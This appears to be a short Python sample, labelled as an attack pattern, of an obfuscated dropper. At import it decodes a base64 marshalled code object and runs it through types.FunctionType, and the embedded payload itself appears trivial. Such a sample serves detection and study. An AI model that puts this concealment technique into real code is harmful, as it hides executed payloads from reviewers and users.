# Attack pattern: marshalled code object (base64) turned into a function with types.FunctionType and called, as in pyobfuscate-style droppers.
import base64
import marshal
import types

_CODE = "4wAAAAAAAAAAAAAAAAAAAAAAAwAAAEAAAABzDAAAAGQAZAGEAFoAZAJTACkD6QEAAABOKQDaAHIBAAAAcgEAAAByAQAAAHoIPHN0cmluZz7aCDxtb2R1bGU+AQAAAPMAAAAA"


def _boot():
    code = marshal.loads(base64.b64decode(_CODE))
    types.FunctionType(code, globals(), "_boot")()


_boot()
